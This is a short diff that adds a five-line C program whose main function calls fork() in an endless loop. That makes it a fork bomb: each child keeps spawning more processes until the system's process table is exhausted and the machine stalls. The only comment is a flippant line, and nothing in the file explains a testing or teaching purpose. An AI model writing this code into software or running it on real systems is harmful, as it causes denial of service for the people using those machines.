@@ -1,0 +1,5 @@
+// Each of its children does what it does.
+#include <unistd.h>
+int main() {
+    for (;;) fork();
+}
